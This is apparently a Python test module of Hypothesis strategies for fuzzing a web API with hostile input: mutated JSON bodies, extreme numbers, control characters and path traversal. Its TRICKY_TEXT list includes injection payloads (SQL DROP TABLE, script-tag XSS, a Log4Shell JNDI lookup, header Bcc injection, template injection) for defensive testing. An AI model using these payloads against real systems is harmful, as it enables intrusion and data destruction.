"""Hypothesis strategies for hostile input: texts, JSON documents, mutations of valid bodies, paths, queries.

``bodies(method, template)`` is what the fuzz posts to a route: mutations of the route's valid bodies
(from ``routes.ROUTE_CASES``) when it has some, arbitrary JSON and raw bytes always. ``FUZZ`` is the
settings every property test starts from: derandomized, so a run draws the same examples each time.
"""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from tests.hostile.harness import JSON
from tests.hostile.routes import PARAM, QUERY_NAMES, VALID_BODIES

FUZZ = settings(
    max_examples=12,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@dataclass(frozen=True)
class Raw:
    """JSON text put in the body as is: numbers Python's json.dumps never writes."""

    text: str


RAW_NUMBERS = ("1e999", "-1e999", "1E400", "NaN", "Infinity", "-Infinity", "1e-999", "-0", "9" * 5000)
TRICKY_TEXT = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "\r\n",
    "a\r\nBcc: evil@example.com",
    "a\nBcc: evil@example.com",
    "\t",
    "\x0b",
    "\x1b[31m",
    "\u2028",
    "\u2029",
    "\x85",
    "\ufeff",
    "\u202e",
    "\ud800",
    "\udfff",
    "x\ud83dy",
    "é",
    "ǅ",
    "ﬁ",
    "İ",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "²",
    "①",
    "١٢",
    "%00",
    "%2F",
    "..",
    "../..",
    "/",
    "\\",
    "?",
    "#",
    "&=",
    "<script>alert(1)</script>",
    "'; DROP TABLE notices; --",
    "${jndi:ldap://example.com/a}",
    "{{7*7}}",
    "statewide",
    "New Haven",
    "09001",
    "us-ct",
    "rollout",
    "detainer",
    "admin",
    "PT0S",
    "P9999Y",
    "2012-02-22T00:00:00-05:00",
    "9999-12-31T23:59:59+14:00",
    "0001-01-01T00:00:00+00:00",
    "2012-02-30",
    "+18605550100",
    "a@example.gov",
    "A012345678",
    "true",
    "null",
)
KNOWN_FIELDS = sorted(
    {k for bodies in VALID_BODIES.values() for body in bodies for k in body}
    | {"subject", "confidential", "source", "channels", "subscriptions", "q", "limit", "cursor", "status"}
)

hostile_text: st.SearchStrategy[str] = st.one_of(
    st.sampled_from(TRICKY_TEXT),
    st.text(max_size=30),
    st.text(st.characters(categories=["Cc", "Cf", "Cs", "Zl", "Zp"]), max_size=8),
    st.tuples(st.sampled_from(["x", "é", "𝔘", " ", "a\n"]), st.integers(150, 400)).map(lambda t: t[0] * t[1]),
)
keys_text = st.one_of(st.sampled_from(KNOWN_FIELDS), hostile_text)
scalars: st.SearchStrategy[Any] = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(2**80), 2**80),
    st.floats(allow_nan=True, allow_infinity=True),
    hostile_text,
    st.sampled_from(RAW_NUMBERS).map(Raw),
)
json_values: st.SearchStrategy[Any] = st.recursive(
    scalars,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(keys_text, inner, max_size=4),
    max_leaves=12,
)


def encode(value: Any, *, ascii_only: bool = True) -> str:
    """JSON text; unlike json.dumps it writes Raw fragments as they are."""
    if isinstance(value, Raw):
        return value.text
    if isinstance(value, dict):
        items = (
            f"{encode(str(k), ascii_only=ascii_only)}:{encode(v, ascii_only=ascii_only)}"
            for k, v in value.items()
        )
        return "{" + ",".join(items) + "}"
    if isinstance(value, list):
        return "[" + ",".join(encode(v, ascii_only=ascii_only) for v in value) + "]"
    return json.dumps(value, ensure_ascii=ascii_only)


def to_bytes(text: str) -> bytes:
    # A lone surrogate written raw (not as a \\ud800 escape) becomes bytes that are not UTF-8: also hostile.
    return text.encode("utf-8", "surrogatepass")


def realistic(text: str) -> str:
    """What can arrive in a URL or a header: bytes decoded, so never a lone surrogate."""
    return text.encode("utf-8", "surrogatepass").decode("utf-8", "replace")


JsonPath = tuple[str | int, ...]
"""Where a value sits in a JSON document: the keys and indexes that lead to it."""


def json_paths(value: Any, prefix: JsonPath = ()) -> list[JsonPath]:
    """Every place in ``value``, the document itself (``()``) first."""
    found = [prefix]
    if isinstance(value, dict):
        for k, v in value.items():
            found += json_paths(v, (*prefix, k))
    elif isinstance(value, list):
        for i, v in enumerate(value):
            found += json_paths(v, (*prefix, i))
    return found


@st.composite
def mutated(draw: st.DrawFn, valid: dict[str, Any]) -> Any:
    """A valid body with up to three edits anywhere in it: replaced, removed, added, wrapped, hostile."""
    body: Any = copy.deepcopy(valid)
    for _ in range(draw(st.integers(0, 3))):
        where = draw(st.sampled_from(json_paths(body)))
        operation = draw(st.sampled_from(["replace", "hostile", "delete", "add", "wrap", "repeat"]))
        if not where:
            body = draw(json_values) if operation == "replace" else body
            continue
        parent = body
        for step in where[:-1]:
            parent = parent[step]
        last = where[-1]
        target = parent[last]
        if operation == "replace":
            parent[last] = draw(json_values)
        elif operation == "hostile":
            parent[last] = draw(hostile_text)
        elif operation == "delete":
            del parent[last]
        elif operation == "add" and isinstance(target, dict):
            target[draw(keys_text)] = draw(json_values)
        elif operation == "add" and isinstance(target, list):
            target.append(draw(json_values))
        elif operation == "repeat" and isinstance(target, list) and target:
            target.extend(copy.deepcopy(target) * draw(st.integers(1, 30)))
        else:
            parent[last] = draw(st.sampled_from([[target], {"value": target}, str(target), None]))
    return body


def bodies(method: str, template: str) -> st.SearchStrategy[bytes]:
    """For a route: mutations of its valid bodies (if it has some), arbitrary JSON, raw bytes, nothing."""
    documents = [json_values]
    if (method, template) in VALID_BODIES:
        valid = VALID_BODIES[method, template]
        documents = [
            st.sampled_from(valid).flatmap(mutated),
            st.sampled_from(valid).flatmap(mutated),
            json_values,
        ]
    texts = st.tuples(st.one_of(*documents), st.booleans()).map(
        lambda t: to_bytes(encode(t[0], ascii_only=t[1]))
    )
    return st.one_of(texts, st.binary(max_size=64), st.just(b""))


def path_values(ids: list[str]) -> st.SearchStrategy[str]:
    """A path parameter: a seeded id, one a character off or with a traversal, or hostile text."""
    if not ids:
        return hostile_text
    valid = st.sampled_from(ids)
    near = st.one_of(
        valid.map(lambda v: v + "x"),
        valid.map(lambda v: v[:-1]),
        valid.map(str.upper),
        valid.map(lambda v: v + "/.."),
        valid.map(lambda v: "../" + v),
        valid.map(lambda v: v + "%00"),
    )
    return st.one_of(valid, near, hostile_text)


def fill(template: str, values: Mapping[str, str], *, percent_encode: bool) -> str:
    """The path template with each parameter's value, percent-encoded or as a client might send it raw."""

    def value(match: re.Match[str]) -> str:
        raw = values[match.group(1)]
        return quote(to_bytes(raw), safe="") if percent_encode else realistic(raw)

    return PARAM.sub(value, template)


query_names = st.sampled_from(QUERY_NAMES)
query_strings = st.dictionaries(st.one_of(query_names, hostile_text), hostile_text, max_size=4).map(
    lambda params: "&".join(
        f"{quote(to_bytes(k), safe='')}={quote(to_bytes(v), safe='')}" for k, v in params.items()
    )
)
extra_headers = st.fixed_dictionaries(
    {},
    optional={
        "Idempotency-Key": hostile_text.map(realistic),
        "Accept": st.sampled_from(["text/html", JSON, "*/*", "text/html;q=0.1, application/json"]),
    },
)
